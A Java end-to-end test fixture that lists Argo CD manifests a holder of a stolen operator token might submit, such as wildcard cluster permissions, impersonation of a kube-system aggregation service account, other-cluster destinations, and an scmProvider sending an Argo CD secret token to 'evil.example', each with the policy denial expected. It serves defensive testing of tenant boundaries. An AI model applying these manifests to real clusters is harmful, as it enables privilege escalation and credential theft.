package io.platformtenant.e2e.boundary;

import static io.platformtenant.e2e.boundary.Act.object;
import static io.platformtenant.e2e.boundary.StolenTokenActs.MARKS;

import java.util.stream.Stream;

/** What a thief of the operator's token would have Argo CD carry out. */
final class StolenTokenDelivery {
  private static final String HERE = "https://kubernetes.default.svc";

  /** As every project of a tenant has it. */
  private static final String FLOOR =
      "{group: '', kind: LimitRange}, {group: '', kind: ResourceQuota}, {group: '*.toolkit.fluxcd.io',"
          + " kind: '*'}, {group: argoproj.io, kind: AppProject}, {group: argoproj.io, kind: Application},"
          + " {group: argoproj.io, kind: ApplicationSet}, {group: fluxcd.controlplane.io, kind: '*'},"
          + " {group: rbac.authorization.k8s.io, kind: '*'}, {group: source.extensions.fluxcd.io, kind:"
          + " '*'}";

  private static final String ARGO = "argoproj.io/v1alpha1";

  private StolenTokenDelivery() {}

  static Stream<Act> all() {
    return Stream.of(projects(), applications(), sets(), places()).flatMap(s -> s);
  }

  private static Stream<Act> projects() {
    return Stream.of(
        delivery("a project of its own", project("x", "", "thief-prod"), "under the name"),
        delivery("a project that reaches everywhere", project("thief", "", "*"), "by name"),
        leads("a project that reaches kube-system", project("thief", "", "kube-system")),
        leads("a project that reaches Argo CD", project("thief", "", "argocd")),
        delivery(
            "a project with whatever the cluster has",
            project("thief", "clusterResourceWhitelist: [{group: '*', kind: '*'}],", "thief-prod"),
            "nothing cluster-scoped"),
        delivery(
            "a project that acts as an account of the cluster",
            project(
                "thief",
                "destinationServiceAccounts: [{server: '"
                    + HERE
                    + "', namespace: 'thief-prod', defaultServiceAccount:"
                    + " 'kube-system:clusterrole-aggregation-controller'}],",
                "thief-prod"),
            "argocd-deployer-<environment>"),
        delivery(
            "a project that leads to another cluster",
            project("thief", "", "thief-prod").replace(HERE, "https://other.example.com"),
            "on the cluster that the operator works in"),
        delivery(
            "a project that names another cluster",
            project("thief", "", "thief-prod").replace("server:", "name: other, server:"),
            "on the cluster that the operator works in"),
        delivery(
            "a project that denies nothing",
            project("thief", "", "thief-prod")
                .replace("{group: argoproj.io, kind: Application},", ""),
            "denies the kinds that move the boundary"),
        delivery(
            "a project with a field that nobody writes",
            project("thief", "orphanedResources: {warn: true},", "thief-prod"),
            "spec.orphanedResources of AppProject"));
  }

  private static Stream<Act> applications() {
    String here = application("thief", "thief-prod");
    return Stream.of(
        delivery(
            "an Application of another project", application("x", "thief-prod"), "under the name"),
        leads("an Application to kube-system", application("thief", "kube-system")),
        delivery(
            "an Application on another cluster",
            here.replace(HERE, "https://other.example.com"),
            "on the cluster that the operator works in"),
        delivery(
            "an Application on a cluster by name",
            here.replace("server: 'https://kubernetes.default.svc'", "name: in-cluster"),
            "on the cluster that the operator works in"),
        delivery(
            "an Application rendered by a plugin",
            here.replace("path: .", "path: ., plugin: {name: x}"),
            "has plugin, a field that the operator does not write"),
        delivery(
            "an Application that gives its credential to any host",
            here.replace("path: .", "path: ., helm: {passCredentials: true}"),
            "has helm.passCredentials"),
        delivery(
            "an Application that writes to Git",
            here.replace(
                "source: {",
                "sourceHydrator: {drySource: {repoURL: 'https://git.example.com/a', path: ., targetRevision: x},"
                    + " syncSource: {path: dry, targetBranch: x}}, source: {"),
            "spec.sourceHydrator of Application"),
        delivery(
            "an Application that syncs what stands nowhere",
            here + "\noperation: {sync: {manifests: ['{}']}}",
            "Argo CD's to write"),
        projects(
            "an Application of a project of the platform's",
            here.replace("thief", "thief-infra"),
            "\"thief-infra\" carries no mark"));
  }

  private static Stream<Act> sets() {
    return Stream.of(
        delivery(
            "a set that asks anywhere, with a Secret of Argo CD",
            set("")
                .replace(
                    "list: {elements: [{name: a}]}",
                    "scmProvider: {github: {organization: x, api: 'https://evil.example',"
                        + " tokenRef: {secretName: x, key: y}}}"),
            "list of elements"),
        delivery(
            "a set of every cluster",
            set("").replace("list: {elements: [{name: a}]}", "clusters: {}"),
            "list of elements"),
        delivery(
            "a set of two generators",
            set("").replace("generators: [", "generators: [{list: {elements: [{name: b}]}}, "),
            "has one generator"),
        delivery(
            "a generator with a template",
            set("")
                .replace(
                    "{elements: [{name: a}]}",
                    "{elements: [{name: a}], template: {metadata: {}, spec: {project: default,"
                        + " destination: {server: x, namespace: kube-system}}}}"),
            "without a template"),
        delivery("a set with a patch", set("templatePatch: 'spec: {}',"), "no templatePatch"),
        delivery(
            "a set without a Go template",
            set("").replace("goTemplate: true", "goTemplate: false"),
            "has a Go template"),
        delivery(
            "a set of the elements' project",
            set("").replace("project: thief", "project: '{{.name}}'"),
            "under the name of the tenant"),
        delivery(
            "a set to the elements' namespace",
            set("").replace("namespace: thief-prod}", "namespace: '{{.name}}'}"),
            "by name"),
        delivery(
            "a set of what carries another mark",
            set("")
                .replace(
                    "labels: {platformtenant.io/tenant: thief,",
                    "labels: {platformtenant.io/tenant: other,"),
            "the mark of its tenant"),
        delivery(
            "a set of what has any name",
            set("").replace("metadata: {name: 'thief-", "metadata: {name: '{{.name}}-"),
            "begins with the tenant's name"));
  }

  /** Where Argo CD does not impersonate, it would act there with rights of its own. */
  private static Stream<Act> places() {
    return Stream.of(
        places("a project into a namespace of nobody", project("thief", "", "thief-elsewhere")),
        places(
            "an Application into a namespace of nobody", application("thief", "thief-elsewhere")),
        places(
            "a set into a namespace of nobody",
            set("").replace("namespace: thief-prod}", "namespace: thief-elsewhere}")));
  }

  /** As the operator makes them. */
  static Stream<String> honest() {
    return Stream.of(
        project(
            "thief",
            "clusterResourceWhitelist: [], destinationServiceAccounts: [{server: '"
                + HERE
                + "', namespace: thief-prod, defaultServiceAccount:"
                + " 'thief-home:argocd-deployer-prod'}],",
            "thief-prod"),
        application("thief", "thief-prod"),
        set(""),
        set("")
            .replace(
                "list: {elements: [{name: a}]}",
                "git: {repoURL: 'https://git.example.com/a', revision: HEAD, directories:"
                    + " [{path: '*'}, {path: x, exclude: true}]}"));
  }

  private static Act places(String name, String manifest) {
    return new Act(name, manifest, "operator-places", "leads to namespace \"thief-elsewhere\"");
  }

  private static Act projects(String name, String manifest, String word) {
    return new Act(name, manifest, "operator-projects", word);
  }

  /** By two policies, and the API server names one of them. */
  private static Act leads(String name, String manifest) {
    return new Act(name, manifest, "operator-(delivery|places)", " tenant");
  }

  private static Act delivery(String name, String manifest, String word) {
    return new Act(name, manifest, "operator-delivery", word);
  }

  static String project(String name, String more, String destination) {
    return object(
        "AppProject",
        ARGO,
        "name: %s, namespace: argocd, %s".formatted(name, MARKS),
        "spec: {%s destinations: [{server: '%s', namespace: '%s'}], namespaceResourceBlacklist: [%s]}"
            .formatted(more, HERE, destination, FLOOR));
  }

  private static String application(String project, String destination) {
    return object(
        "Application",
        ARGO,
        "name: thief-web-prod, namespace: argocd, " + MARKS,
        "spec: {project: %s, destination: %s, source: {repoURL: 'https://git.example.com/a', path: .}}"
            .formatted(project, to(destination)));
  }

  static String set(String more) {
    return object(
        "ApplicationSet",
        ARGO,
        "name: thief-webs-prod, namespace: argocd, " + MARKS,
        ("spec: {%s goTemplate: true, goTemplateOptions: [missingkey=error], generators: [{list:"
                + " {elements: [{name: a}]}}], template: {metadata: {name: 'thief-webs-{{.name}}-prod',"
                + " labels: {platformtenant.io/tenant: thief, app.kubernetes.io/managed-by:"
                + " platform-tenant-operator}}, spec: {project: thief, destination: %s, source:"
                + " {repoURL: 'https://git.example.com/a', path: '{{.name}}'}}}}")
            .formatted(more, to("thief-prod")));
  }

  private static String to(String namespace) {
    return "{server: '%s', namespace: %s}".formatted(HERE, namespace);
  }
}
